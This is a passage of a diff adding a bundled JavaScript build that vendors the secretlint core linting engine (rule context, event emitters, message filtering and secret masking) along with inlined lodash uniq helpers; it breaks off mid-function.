+    const location = this.structuredSource.rangeToLocation(range);
+    return {
+      start: {
+        line: location.start.line,
+        column: location.start.column
+      },
+      end: {
+        line: location.end.line,
+        column: location.end.column
+      }
+    };
+  }
+  /**
+   * @param {Position} pos - position indicator.
+   * @return {number} index.
+   */
+  positionToIndex(pos) {
+    return this.structuredSource.positionToIndex(pos);
+  }
+  /**
+   * @param {number} index - index to the source code.
+   * @return {Position} position.
+   */
+  indexToPosition(index) {
+    const position = this.structuredSource.indexToPosition(index);
+    return {
+      line: position.line,
+      column: position.column
+    };
+  }
+};
+
+// node_modules/@secretlint/core/module/helper/promise-event-emitter.js
+var EventEmitter = class {
+  #listeners = /* @__PURE__ */ new Map();
+  on(type, listener) {
+    const prevSet = this.#listeners.get(type);
+    const listenerSet = prevSet ?? /* @__PURE__ */ new Set();
+    listenerSet?.add(listener);
+    this.#listeners.set(type, listenerSet);
+  }
+  emit(type, ...args2) {
+    const listenerSet = this.#listeners.get(type);
+    if (!listenerSet) {
+      return;
+    }
+    for (const listenerSetElement of listenerSet) {
+      listenerSetElement(...args2);
+    }
+  }
+  off(type, listener) {
+    const listenerSet = this.#listeners.get(type);
+    if (!listenerSet) {
+      return;
+    }
+    for (const listenerSetElement of listenerSet) {
+      if (listenerSetElement === listener) {
+        listenerSet.delete(listener);
+      }
+    }
+  }
+  removeAllListeners() {
+    this.#listeners.clear();
+  }
+  listenerCount(type) {
+    return this.#listeners.get(type)?.size ?? 0;
+  }
+  listeners(type) {
+    return Array.from(this.#listeners.get(type) ?? []);
+  }
+};
+var PromiseEventEmitter = class {
+  events;
+  constructor() {
+    this.events = new EventEmitter();
+  }
+  listenerCount(type) {
+    return this.events.listenerCount(type);
+  }
+  on(event, listener) {
+    return this.events.on(event, listener);
+  }
+  emit(event, ...args2) {
+    const promises = [];
+    this.events.listeners(event).forEach((listener) => {
+      promises.push(listener(...args2));
+    });
+    return Promise.all(promises);
+  }
+};
+
+// node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js
+var DEFAULT_LOCAL = "en";
+var formatMessage2 = (messageHandler, props) => {
+  if (typeof props !== "object" || props === null) {
+    return messageHandler();
+  }
+  return messageHandler(props);
+};
+var getMatchedLocaleMessage = (locale, locales) => {
+  const localKeys = Object.keys(locales);
+  const matchLocale = localKeys.find((key) => {
+    return key === locale;
+  });
+  if (matchLocale) {
+    return matchLocale;
+  }
+  const [lang] = locale.split("-");
+  if (!lang) {
+    return DEFAULT_LOCAL;
+  }
+  const fallbackMatchLocal = localKeys.find((key) => {
+    return key === lang;
+  });
+  if (fallbackMatchLocal) {
+    return fallbackMatchLocal;
+  }
+  return DEFAULT_LOCAL;
+};
+var createTranslator = (messages2, options) => {
+  return (messageId, props) => {
+    const messageHandler = messages2[messageId];
+    if (!messageHandler) {
+      throw new Error(`messages:${String(messageId)} is missing in messages.`);
+    }
+    if (typeof messageHandler === "function") {
+      if (typeof messageId !== "string") {
+        throw new Error(`message's key:${String(messageId)} should be string`);
+      }
+      return {
+        message: formatMessage2(messageHandler, props),
+        messageId,
+        data: props
+      };
+    }
+    const defaultLocal = options && options.defaultLocale ? options.defaultLocale : DEFAULT_LOCAL;
+    const locale = getMatchedLocaleMessage(defaultLocal, messageHandler);
+    const localizedMessage = messageHandler[locale];
+    if (!localizedMessage) {
+      if (messageHandler[DEFAULT_LOCAL]) {
+        throw new Error(`messages${String(messageId)}.${locale} is missing in messages.`);
+      }
+      throw new Error(`message's key:${String(messageId)}.${DEFAULT_LOCAL} should be defined in messages.`);
+    }
+    if (typeof messageId !== "string") {
+      throw new Error(`message's key:${String(messageId)}.${DEFAULT_LOCAL} should be string`);
+    }
+    return {
+      message: formatMessage2(localizedMessage, props),
+      messageId,
+      data: props
+    };
+  };
+};
+
+// node_modules/@secretlint/core/module/RuleContext.js
+var createContextEvents = () => {
+  const contextEvents = new EventEmitter();
+  const REPORT_SYMBOL = /* @__PURE__ */ Symbol("report");
+  const IGNORE_SYMBOL = /* @__PURE__ */ Symbol("ignore");
+  return {
+    report(descriptor) {
+      contextEvents.emit(REPORT_SYMBOL, descriptor);
+    },
+    onReport(handler) {
+      const listener = (descriptor) => {
+        handler(descriptor);
+      };
+      contextEvents.on(REPORT_SYMBOL, listener);
+      return () => {
+        contextEvents.off(REPORT_SYMBOL, listener);
+      };
+    },
+    ignore(descriptor) {
+      contextEvents.emit(IGNORE_SYMBOL, descriptor);
+    },
+    onIgnore(handler) {
+      const listener = (descriptor) => {
+        handler(descriptor);
+      };
+      contextEvents.on(IGNORE_SYMBOL, listener);
+      return () => {
+        contextEvents.off(IGNORE_SYMBOL, listener);
+      };
+    }
+  };
+};
+var createRuleContext = ({ ruleId, ruleParentId, meta: meta9, severity, sourceCode, contextEvents, sharedOptions, locale }) => {
+  return {
+    sharedOptions,
+    createTranslator: (messages2) => {
+      return createTranslator(messages2, {
+        defaultLocale: locale
+      });
+    },
+    ignore(descriptor) {
+      const { message } = descriptor.message;
+      contextEvents.ignore({
+        type: "ignore",
+        ruleId,
+        ruleParentId,
+        range: descriptor.range,
+        targetRuleId: descriptor.targetRuleId,
+        loc: sourceCode.rangeToLocation(descriptor.range),
+        message
+      });
+    },
+    report(descriptor) {
+      const { message, messageId, data } = descriptor.message;
+      const severityLevel = severity ?? "error";
+      if (ruleParentId) {
+        contextEvents.report({
+          ...descriptor,
+          type: "message",
+          ruleId,
+          ruleParentId,
+          loc: sourceCode.rangeToLocation(descriptor.range),
+          severity: severityLevel,
+          message,
+          messageId,
+          docsUrl: meta9.docs?.url ? `${meta9.docs.url}#${messageId}` : void 0,
+          data
+        });
+      } else {
+        contextEvents.report({
+          ...descriptor,
+          type: "message",
+          ruleId,
+          loc: sourceCode.rangeToLocation(descriptor.range),
+          severity: severityLevel,
+          message,
+          messageId,
+          docsUrl: meta9.docs?.url ? `${meta9.docs.url}#${messageId}` : void 0,
+          data
+        });
+      }
+    }
+  };
+};
+
+// node_modules/@secretlint/core/module/SecretLintRuleImpl.js
+var SecretLintRule = class {
+  ruleReportHandle;
+  ruleCreator;
+  descriptorRule;
+  constructor({ descriptorRule, context }) {
+    this.descriptorRule = descriptorRule;
+    this.ruleCreator = descriptorRule.rule;
+    const ruleCreatorOptions = descriptorRule.options || {};
+    this.ruleReportHandle = this.ruleCreator.create(context, ruleCreatorOptions);
+  }
+  allowMessageIds() {
+    if (!this.descriptorRule.allowMessageIds) {
+      return [];
+    }
+    const ruleId = this.ruleCreator.meta.id;
+    return this.descriptorRule.allowMessageIds.map((allowMessageId) => {
+      return {
+        messageId: allowMessageId,
+        ruleId
+      };
+    });
+  }
+  supportSourceCode(sourceCode) {
+    const contentType = sourceCode.contentType;
+    if (contentType === "unknown") {
+      return true;
+    }
+    if (this.ruleCreator.meta.supportedContentTypes.includes("all")) {
+      return true;
+    }
+    return this.ruleCreator.meta.supportedContentTypes.includes(contentType);
+  }
+  async file(source) {
+    const file = this.ruleReportHandle.file;
+    if (!file) {
+      return;
+    }
+    return file(source);
+  }
+};
+
+// node_modules/@secretlint/profiler/module/index.js
+var SecretLintProfiler = class {
+  perf;
+  entries = [];
+  measures = [];
+  executionPromises = [];
+  constructor(options) {
+    this.perf = options.perf;
+    const pattern = /(.*?)::end(\|\|.*)?/;
+    const observer = new options.PerformanceObserver((items) => {
+      const entries = items.getEntries();
+      entries.forEach((entry) => {
+        if (entry.entryType === "mark") {
+          const match = entry.name.match(pattern);
+          const endIdentifier = match ? match[1] : void 0;
+          const suffix = match && match[2] ? match[2] : "";
+          if (endIdentifier) {
+            const startIdentifier = `${endIdentifier}::start`;
+            this.entries.find((savedEntry) => {
+              return savedEntry.name === startIdentifier;
+            });
+            if (startIdentifier) {
+              this.executionPromises.push(Promise.resolve().then(() => {
+                this.perf.measure(endIdentifier + suffix, `${endIdentifier}::start${suffix}`, `${endIdentifier}::end${suffix}`);
+              }));
+            }
+          }
+          this.entries.push(entry);
+        } else if (entry.entryType === "measure") {
+          this.measures.push(entry);
+        }
+      });
+    });
+    observer.observe({ entryTypes: ["mark", "measure"] });
+  }
+  mark(marker) {
+    if ("id" in marker) {
+      this.perf.mark(`${marker.type}||${marker.id}`);
+    } else {
+      this.perf.mark(marker.type);
+    }
+  }
+  waifForExecutionPromises = () => {
+    return Promise.all(this.executionPromises).finally(() => {
+      this.executionPromises.length = 0;
+    });
+  };
+  async getEntries() {
+    await this.waifForExecutionPromises();
+    return this.entries;
+  }
+  async getMeasures() {
+    await this.waifForExecutionPromises();
+    return this.measures;
+  }
+};
+
+// node_modules/@secretlint/profiler/module/node.js
+import perf_hooks from "node:perf_hooks";
+var NullPerformanceObserver = class {
+  disconnect() {
+  }
+  observe(_options) {
+  }
+};
+var secretLintProfiler = new SecretLintProfiler({
+  perf: perf_hooks.performance,
+  PerformanceObserver: perf_hooks.PerformanceObserver ? perf_hooks.PerformanceObserver : NullPerformanceObserver
+});
+
+// node_modules/@secretlint/core/module/RunningEvents.js
+var createRunningEvents = () => {
+  const contextEvents = new PromiseEventEmitter();
+  const registerSet = /* @__PURE__ */ new Set();
+  const LINT_HANDLE = /* @__PURE__ */ Symbol("lint:start");
+  const rules2 = [];
+  return {
+    collectAllowMessageIds() {
+      const allowMessageIds = [];
+      rules2.forEach((rule2) => {
+        allowMessageIds.push(...rule2.allowMessageIds());
+      });
+      return allowMessageIds;
+    },
+    /**
+     * Start to run linting
+     * @param options
+     */
+    runLint(options) {
+      return contextEvents.emit(LINT_HANDLE, options);
+    },
+    registerRule({ descriptorRule, context }) {
+      if (registerSet.has(descriptorRule.id)) {
+        throw new Error(`rule.id:${descriptorRule.id} is already registered.
+                
+Duplicated rule.id is something wrong in .secretlintrc.                
+`);
+      }
+      registerSet.add(descriptorRule.id);
+      const rule2 = new SecretLintRule({
+        descriptorRule,
+        context
+      });
+      rules2.push(rule2);
+      contextEvents.on(LINT_HANDLE, async ({ sourceCode }) => {
+        secretLintProfiler.mark({
+          type: "@core>rule-handler::start",
+          id: descriptorRule.rule.meta.id
+        });
+        if (rule2.supportSourceCode(sourceCode)) {
+          await rule2.file(sourceCode);
+        }
+        secretLintProfiler.mark({
+          type: "@core>rule-handler::end",
+          id: descriptorRule.rule.meta.id
+        });
+      });
+    },
+    registerRulePreset({ descriptorRulePreset, context }) {
+      const rulePresetCreatorOptions = descriptorRulePreset.options || [];
+      descriptorRulePreset.rule.create(context, rulePresetCreatorOptions);
+    },
+    isRegistered(ruleId) {
+      return registerSet.has(ruleId);
+    }
+  };
+};
+
+// node_modules/@secretlint/core/module/RulePresetContext.js
+var createRulePresetContext = ({ configRulePreset, sourceCode, runningEvents, contextEvents, sharedOptions, locale }) => {
+  const presetRules2 = configRulePreset.rules || [];
+  if (!Array.isArray(presetRules2)) {
+    console.error(`${configRulePreset.id}:PresetRules is invalid format`, presetRules2);
+    throw new Error("preset's rules should be an array of rule definitions");
+  }
+  return {
+    sharedOptions,
+    registerRule(rule2, defaultValue) {
+      const descriptorRule = presetRules2.find((descriptorRule2) => {
+        return descriptorRule2.id === rule2.meta.id;
+      });
+      const descriptorRuleOptions = descriptorRule ? descriptorRule.options : void 0;
+      const descriptorRuleDisabled = descriptorRule ? descriptorRule.disabled : void 0;
+      const descriptorRuleSeverity = descriptorRule ? descriptorRule.severity : void 0;
+      const descriptorAllowMessageIds = descriptorRule ? descriptorRule.allowMessageIds : void 0;
+      const context = createRuleContext({
+        // rule id is a single rule in a preset
+        ruleId: rule2.meta.id,
+        // parent rule id is rule preset id
+        ruleParentId: configRulePreset.id,
+        meta: rule2.meta,
+        severity: descriptorRuleSeverity,
+        sourceCode,
+        contextEvents,
+        sharedOptions,
+        locale
+      });
+      const defaultValueOfPreset = defaultValue ? defaultValue : {};
+      runningEvents.registerRule({
+        descriptorRule: {
+          // options and disabled ...
+          ...defaultValueOfPreset,
+          // Prefer to use user setting
+          // User can override preset setting
+          ...descriptorRule,
+          id: rule2.meta.id,
+          options: descriptorRuleOptions,
+          rule: rule2,
+          disabled: descriptorRuleDisabled,
+          allowMessageIds: descriptorAllowMessageIds,
+          severity: descriptorRuleSeverity
+        },
+        context
+      });
+    }
+  };
+};
+
+// node_modules/@secretlint/core/module/messages/filter-ignored-process.js
+var isContainedRange = (index, range) => {
+  const [start2, end] = range;
+  return start2 <= index && index <= end;
+};
+function filterIgnoredMessages(options) {
+  const reportedMessages = options.reportedMessages;
+  const ignoreMessages = options.ignoredMessages;
+  return reportedMessages.filter((message) => {
+    return !ignoreMessages.some((ignoreMessage) => {
+      const isInIgnoringRange = isContainedRange(message.range[0], ignoreMessage.range) && isContainedRange(message.range[1], ignoreMessage.range);
+      if (isInIgnoringRange && ignoreMessage.targetRuleId) {
+        if (ignoreMessage.targetRuleId === "*") {
+          return true;
+        }
+        return message.ruleId === ignoreMessage.targetRuleId;
+      }
+      return isInIgnoringRange;
+    });
+  });
+}
+
+// node_modules/@secretlint/core/module/messages/MessageProcessManager.js
+var createMessageProcessor = (processors) => {
+  return {
+    /**
+     * process `messages` with registered processes
+     */
+    process(messages2) {
+      const originalMessages = messages2;
+      if (processors.length === 0) {
+        throw new Error("processors should be > 0");
+      }
+      return processors.reduce((messages3, filter) => {
+        return filter(messages3);
+      }, originalMessages);
+    }
+  };
+};
+
+// node_modules/@secretlint/core/module/messages/filter-duplicated-process.js
+var isEqualMessage = (aMessage, bMessage) => {
+  return aMessage.range[0] === bMessage.range[0] && aMessage.range[1] === bMessage.range[1] && "severity" in aMessage && "severity" in bMessage && aMessage.severity === bMessage.severity && aMessage.message === bMessage.message;
+};
+function filterDuplicatedMessages(messages2 = []) {
+  return messages2.filter((message, index) => {
+    const restMessages = messages2.slice(index + 1);
+    return !restMessages.some((restMessage) => {
+      return isEqualMessage(message, restMessage);
+    });
+  });
+}
+
+// node_modules/@secretlint/core/module/messages/sort-messages-process.js
+function sortMessagesByLocation(messages2) {
+  return messages2.sort(function(a, b) {
+    const startIndexDiff = a.range[0] - b.range[0];
+    if (startIndexDiff === 0) {
+      return a.range[1] - b.range[1];
+    } else {
+      return startIndexDiff;
+    }
+  });
+}
+
+// node_modules/@secretlint/core/module/messages/filter-message-id.js
+var filterByAllowMessageIds = (messages2, allowMessageIds) => {
+  const disabledSet = new Set(allowMessageIds.map((allowMessage) => {
+    return `${allowMessage.ruleId}--${allowMessage.messageId}`;
+  }));
+  return messages2.filter((message) => {
+    return !disabledSet.has(`${message.ruleId}--${message.messageId}`);
+  });
+};
+
+// node_modules/@secretlint/core/module/messages/filter-mask-secrets.js
+var deepMask = (object, handler) => {
+  for (const key of Object.keys(object)) {
+    if (typeof object[key] === "object") {
+      object[key] = deepMask(object[key], handler);
+    } else if (Array.isArray(object[key])) {
+      object[key] = object[key].map((item) => deepMask(item, handler));
+    } else if (typeof object[key] === "string") {
+      object[key] = handler(object[key]);
+    }
+  }
+  return object;
+};
+var createMaskValue = (value) => {
+  return "*".repeat(value.length);
+};
+var maskWithValues = (str2, maskedValues) => {
+  let result = str2;
+  for (const maskValue of maskedValues) {
+    result = result.replaceAll(maskValue, "*".repeat(maskValue.length));
+  }
+  return result;
+};
+var filterMaskSecretsData = (messages2 = []) => {
+  return messages2.map((message) => {
+    if (message.type !== "message") {
+      return message;
+    }
+    const maskedValues = [];
+    const maskedData = message.data ? deepMask(message.data, (value) => {
+      maskedValues.push(value);
+      return createMaskValue(value);
+    }) : void 0;
+    if (!maskedData) {
+      return message;
+    }
+    const maskedMessage = maskWithValues(message.message, maskedValues);
+    return {
+      ...message,
+      message: maskedMessage,
+      data: maskedData
+    };
+  });
+};
+
+// node_modules/@secretlint/core/module/messages/index.js
+var cleanupMessages = (options) => {
+  const reportedMessages = filterIgnoredMessages(options);
+  const reportedMessagesWithoutAllowMessageIds = filterByAllowMessageIds(reportedMessages, options.allowMessageIds);
+  const filters = options.maskSecrets ? [filterDuplicatedMessages, filterMaskSecretsData] : [filterDuplicatedMessages];
+  const filterProcess = createMessageProcessor(filters);
+  return sortMessagesByLocation(filterProcess.process(reportedMessagesWithoutAllowMessageIds));
+};
+
+// node_modules/@secretlint/core/module/index.js
+var import_debug = __toESM(require_src(), 1);
+var debug = (0, import_debug.default)("@secretlint/core");
+var lintSource = ({ source, options }) => {
+  secretLintProfiler.mark({
+    type: "@core>lint::start",
+    id: source.filePath
+  });
+  debug(`source filePath: %O`, source.filePath);
+  debug(`options: %O`, options);
+  const rules2 = options.config.rules;
+  const locale = options.locale ?? "en";
+  const maskSecrets = options.maskSecrets ?? false;
+  const contextEvents = createContextEvents();
+  const runningEvents = createRunningEvents();
+  const reportedMessages = [];
+  const ignoredMessages = [];
+  contextEvents.onReport((message) => {
+    reportedMessages.push(message);
+  });
+  contextEvents.onIgnore((message) => {
+    ignoredMessages.push(message);
+  });
+  const sourceCode = new SecretLintSourceCodeImpl({
+    content: source.content,
+    filePath: source.filePath,
+    physicalFilePath: options.noPhysicFilePath ? void 0 : source.filePath,
+    ext: source.ext || "",
+    contentType: source.contentType
+  });
+  secretLintProfiler.mark({
+    type: "@core>setup-rules::start"
+  });
+  rules2.forEach((rule2) => {
+    secretLintProfiler.mark({
+      type: "@core>setup-rule::start",
+      id: rule2.rule.meta.id
+    });
+    registerRule({
+      sourceCode,
+      config: options.config,
+      descriptorRule: rule2,
+      contextEvents,
+      runningEvents,
+      locale
+    });
+    secretLintProfiler.mark({
+      type: "@core>setup-rule::end",
+      id: rule2.rule.meta.id
+    });
+  });
+  secretLintProfiler.mark({
+    type: "@core>setup-rules::end"
+  });
+  return runningEvents.runLint({
+    sourceCode
+  }).then(() => {
+    return {
+      filePath: source.filePath,
+      // binary content should be skipped
+      sourceContent: source.contentType === "text" ? source.content : void 0,
+      sourceContentType: source.contentType,
+      messages: cleanupMessages({
+        reportedMessages,
+        ignoredMessages,
+        allowMessageIds: runningEvents.collectAllowMessageIds(),
+        maskSecrets
+      })
+    };
+  }).finally(() => {
+    secretLintProfiler.mark({
+      type: "@core>lint::end",
+      id: source.filePath
+    });
+  });
+};
+var isRulePreset = (ruleDescriptor2) => {
+  return ruleDescriptor2.rule.meta.type === "preset";
+};
+var isRule = (ruleDescriptor2) => {
+  return ruleDescriptor2.rule.meta.type === "scanner";
+};
+var registerRule = ({ sourceCode, config, descriptorRule, contextEvents, runningEvents, locale }) => {
+  const ruleId = descriptorRule.id;
+  if (descriptorRule.disabled) {
+    debug("Skip registerRule %s, because it is disabled", ruleId);
+    return;
+  }
+  debug("registerRule %s", ruleId);
+  const sharedOptionsWithDefault = config.sharedOptions ?? {};
+  if (isRulePreset(descriptorRule)) {
+    const context = createRulePresetContext({
+      configRulePreset: descriptorRule,
+      sourceCode,
+      contextEvents,
+      runningEvents,
+      sharedOptions: sharedOptionsWithDefault,
+      locale
+    });
+    runningEvents.registerRulePreset({
+      descriptorRulePreset: descriptorRule,
+      context
+    });
+    return;
+  } else if (isRule(descriptorRule)) {
+    const context = createRuleContext({
+      ruleId,
+      severity: descriptorRule.severity,
+      meta: descriptorRule.rule.meta,
+      sourceCode,
+      contextEvents,
+      sharedOptions: sharedOptionsWithDefault,
+      locale
+    });
+    runningEvents.registerRule({
+      descriptorRule,
+      context
+    });
+    return;
+  }
+  throw new Error(`Unknown descriptor type: ${descriptorRule}`);
+};
+
+// node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js
+import path from "node:path";
+var commonjsGlobal = typeof globalThis !== "undefined" ? globalThis : typeof window !== "undefined" ? window : typeof global !== "undefined" ? global : typeof self !== "undefined" ? self : {};
+var regexpStringMatcher = {};
+var lodash_uniq;
+var hasRequiredLodash_uniq;
+function requireLodash_uniq() {
+  if (hasRequiredLodash_uniq) return lodash_uniq;
+  hasRequiredLodash_uniq = 1;
+  var LARGE_ARRAY_SIZE = 200;
+  var HASH_UNDEFINED = "__lodash_hash_undefined__";
+  var INFINITY = 1 / 0;
+  var funcTag = "[object Function]", genTag = "[object GeneratorFunction]";
+  var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+  var reIsHostCtor = /^\[object .+?Constructor\]$/;
+  var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+  var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+  var root = freeGlobal || freeSelf || Function("return this")();
+  function arrayIncludes(array, value) {
+    var length = array ? array.length : 0;
+    return !!length && baseIndexOf(array, value, 0) > -1;
+  }
+  function baseFindIndex(array, predicate, fromIndex, fromRight) {
+    var length = array.length, index = fromIndex + -1;
+    while (++index < length) {
+      if (predicate(array[index], index, array)) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIndexOf(array, value, fromIndex) {
+    if (value !== value) {
+      return baseFindIndex(array, baseIsNaN, fromIndex);
+    }
+    var index = fromIndex - 1, length = array.length;
+    while (++index < length) {
+      if (array[index] === value) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIsNaN(value) {
+    return value !== value;
+  }
+  function cacheHas(cache, key) {
+    return cache.has(key);
+  }
+  function getValue2(object, key) {
+    return object == null ? void 0 : object[key];
+  }
+  function isHostObject(value) {
+    var result = false;
+    if (value != null && typeof value.toString != "function") {
+      try {
+        result = !!(value + "");
+      } catch (e) {
+      }
+    }
+    return result;
+  }
+  function setToArray(set) {
+    var index = -1, result = Array(set.size);
+    set.forEach(function(value) {
+      result[++index] = value;
+    });
+    return result;
+  }
+  var arrayProto = Array.prototype, funcProto = Function.prototype, objectProto = Object.prototype;
+  var coreJsData = root["__core-js_shared__"];
+  var maskSrcKey = (function() {
+    var uid = /[^.]+$/.exec(coreJsData && coreJsData.keys && coreJsData.keys.IE_PROTO || "");
+    return uid ? "Symbol(src)_1." + uid : "";
+  })();
+  var funcToString = funcProto.toString;
+  var hasOwnProperty = objectProto.hasOwnProperty;
+  var objectToString = objectProto.toString;
+  var reIsNative = RegExp(
+    "^" + funcToString.call(hasOwnProperty).replace(reRegExpChar, "\\$&").replace(/hasOwnProperty|(function).*?(?=\\\()| for .+?(?=\\\])/g, "$1.*?") + "$"
+  );
+  var splice = arrayProto.splice;
+  var Map2 = getNative(root, "Map"), Set2 = getNative(root, "Set"), nativeCreate = getNative(Object, "create");
+  function Hash(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function hashClear() {
+    this.__data__ = nativeCreate ? nativeCreate(null) : {};
+  }
+  function hashDelete(key) {
+    return this.has(key) && delete this.__data__[key];
+  }
+  function hashGet(key) {
+    var data = this.__data__;
+    if (nativeCreate) {
+      var result = data[key];
+      return result === HASH_UNDEFINED ? void 0 : result;
+    }
+    return hasOwnProperty.call(data, key) ? data[key] : void 0;
+  }
+  function hashHas(key) {
+    var data = this.__data__;
+    return nativeCreate ? data[key] !== void 0 : hasOwnProperty.call(data, key);
+  }
+  function hashSet(key, value) {
+    var data = this.__data__;
+    data[key] = nativeCreate && value === void 0 ? HASH_UNDEFINED : value;
+    return this;
+  }
+  Hash.prototype.clear = hashClear;
+  Hash.prototype["delete"] = hashDelete;
+  Hash.prototype.get = hashGet;
+  Hash.prototype.has = hashHas;
+  Hash.prototype.set = hashSet;
+  function ListCache(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function listCacheClear() {
+    this.__data__ = [];
+  }
+  function listCacheDelete(key) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    if (index < 0) {
+      return false;
+    }
+    var lastIndex = data.length - 1;
+    if (index == lastIndex) {
+      data.pop();
+    } else {
+      splice.call(data, index, 1);
+    }
+    return true;
+  }
+  function listCacheGet(key) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    return index < 0 ? void 0 : data[index][1];
+  }
+  function listCacheHas(key) {
+    return assocIndexOf(this.__data__, key) > -1;
+  }
+  function listCacheSet(key, value) {
+    var data = this.__data__, index = assocIndexOf(data, key);
+    if (index < 0) {
+      data.push([key, value]);
+    } else {
+      data[index][1] = value;
+    }
+    return this;
+  }
+  ListCache.prototype.clear = listCacheClear;
+  ListCache.prototype["delete"] = listCacheDelete;
+  ListCache.prototype.get = listCacheGet;
+  ListCache.prototype.has = listCacheHas;
+  ListCache.prototype.set = listCacheSet;
+  function MapCache(entries) {
+    var index = -1, length = entries ? entries.length : 0;
+    this.clear();
+    while (++index < length) {
+      var entry = entries[index];
+      this.set(entry[0], entry[1]);
+    }
+  }
+  function mapCacheClear() {
+    this.__data__ = {
+      "hash": new Hash(),
+      "map": new (Map2 || ListCache)(),
+      "string": new Hash()
+    };
+  }
+  function mapCacheDelete(key) {
+    return getMapData(this, key)["delete"](key);
+  }
+  function mapCacheGet(key) {
+    return getMapData(this, key).get(key);
+  }
+  function mapCacheHas(key) {
+    return getMapData(this, key).has(key);
+  }
+  function mapCacheSet(key, value) {
+    getMapData(this, key).set(key, value);
+    return this;
+  }
+  MapCache.prototype.clear = mapCacheClear;
+  MapCache.prototype["delete"] = mapCacheDelete;
+  MapCache.prototype.get = mapCacheGet;
+  MapCache.prototype.has = mapCacheHas;
+  MapCache.prototype.set = mapCacheSet;
+  function SetCache(values) {
+    var index = -1, length = values ? values.length : 0;
+    this.__data__ = new MapCache();
+    while (++index < length) {
+      this.add(values[index]);
+    }
+  }
+  function setCacheAdd(value) {
+    this.__data__.set(value, HASH_UNDEFINED);
+    return this;
+  }
+  function setCacheHas(value) {
+    return this.__data__.has(value);
+  }
+  SetCache.prototype.add = SetCache.prototype.push = setCacheAdd;
+  SetCache.prototype.has = setCacheHas;
+  function assocIndexOf(array, key) {
+    var length = array.length;
+    while (length--) {
+      if (eq(array[length][0], key)) {
+        return length;
+      }
+    }
+    return -1;
+  }
+  function baseIsNative(value) {
+    if (!isObject(value) || isMasked(value)) {
+      return false;
+    }
+    var pattern = isFunction(value) || isHostObject(value) ? reIsNative : reIsHostCtor;
+    return pattern.test(toSource(value));
+  }
+  function baseUniq(array, iteratee, comparator) {
+    var index = -1, includes = arrayIncludes, length = array.length, isCommon = true, result = [], seen = result;
+    if (length >= LARGE_ARRAY_SIZE) {
+      var set = createSet(array);
+      if (set) {
+        return setToArray(set);
+      }
+      isCommon = false;
+      includes = cacheHas;
+      seen = new SetCache();
+    } else {
+      seen = result;
+    }
+    outer:
+      while (++index < length) {
+        var value = array[index], computed = value;
+        value = value !== 0 ? value : 0;
+        if (isCommon && computed === computed) {
+          var seenIndex = seen.length;
+          while (seenIndex--) {
+            if (seen[seenIndex] === computed) {
+              continue outer;
+            }
+          }
+          result.push(value);
+        } else if (!includes(seen, computed, comparator)) {
+          if (seen !== result) {
+            seen.push(computed);
+          }
+          result.push(value);
+        }
+      }
+    return result;
+  }
+  var createSet = !(Set2 && 1 / setToArray(new Set2([, -0]))[1] == INFINITY) ? noop : function(values) {
+    return new Set2(values);
+  };
+  function getMapData(map, key) {
+    var data = map.__data__;
+    return isKeyable(key) ? data[typeof key == "string" ? "string" : "hash"] : data.map;
+  }
+  function getNative(object, key) {
+    var value = getValue2(object, key);
+    return baseIsNative(value) ? value : void 0;
+  }
+  function isKeyable(value) {
+    var type = typeof value;
+    return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+  }
+  function isMasked(func2) {
+    return !!maskSrcKey && maskSrcKey in func2;
+  }
+  function toSource(func2) {
+    if (func2 != null) {
+      try {
+        return funcToString.call(func2);
+      } catch (e) {
+      }
+      try {
+        return func2 + "";
+      } catch (e) {
+      }
+    }
+    return "";
+  }
+  function uniq(array) {
+    return array && array.length ? baseUniq(array) : [];
+  }
+  function eq(value, other) {
+    return value === other || value !== value && other !== other;
+  }
+  function isFunction(value) {
+    var tag = isObject(value) ? objectToString.call(value) : "";
+    return tag == funcTag || tag == genTag;
+  }
+  function isObject(value) {
+    var type = typeof value;
+    return !!value && (type == "object" || type == "function");
+  }
+  function noop() {
+  }
+  lodash_uniq = uniq;
+  return lodash_uniq;
+}
+var lodash_uniqwith;
+var hasRequiredLodash_uniqwith;
+function requireLodash_uniqwith() {
+  if (hasRequiredLodash_uniqwith) return lodash_uniqwith;
+  hasRequiredLodash_uniqwith = 1;
+  var LARGE_ARRAY_SIZE = 200;
+  var HASH_UNDEFINED = "__lodash_hash_undefined__";
+  var INFINITY = 1 / 0;
+  var funcTag = "[object Function]", genTag = "[object GeneratorFunction]";
+  var reRegExpChar = /[\\^$.*+?()[\]{}|]/g;
+  var reIsHostCtor = /^\[object .+?Constructor\]$/;
+  var freeGlobal = typeof commonjsGlobal == "object" && commonjsGlobal && commonjsGlobal.Object === Object && commonjsGlobal;
+  var freeSelf = typeof self == "object" && self && self.Object === Object && self;
+  var root = freeGlobal || freeSelf || Function("return this")();
+  function arrayIncludes(array, value) {
+    var length = array ? array.length : 0;
+    return !!length && baseIndexOf(array, value, 0) > -1;
+  }
+  function arrayIncludesWith(array, value, comparator) {
+    var index = -1, length = array ? array.length : 0;
+    while (++index < length) {
+      if (comparator(value, array[index])) {
+        return true;
+      }
+    }
+    return false;
+  }
+  function baseFindIndex(array, predicate, fromIndex, fromRight) {
+    var length = array.length, index = fromIndex + -1;
+    while (++index < length) {
+      if (predicate(array[index], index, array)) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIndexOf(array, value, fromIndex) {
+    if (value !== value) {
+      return baseFindIndex(array, baseIsNaN, fromIndex);
+    }
+    var index = fromIndex - 1, length = array.length;
+    while (++index < length) {
+      if (array[index] === value) {
+        return index;
+      }
+    }
+    return -1;
+  }
+  function baseIsNaN(value) {
+    return value !== value;
+  }
+  function cacheHas(cache, key) {
+    return cache.has(key);
+  }
+  function getValue2(object, key) {
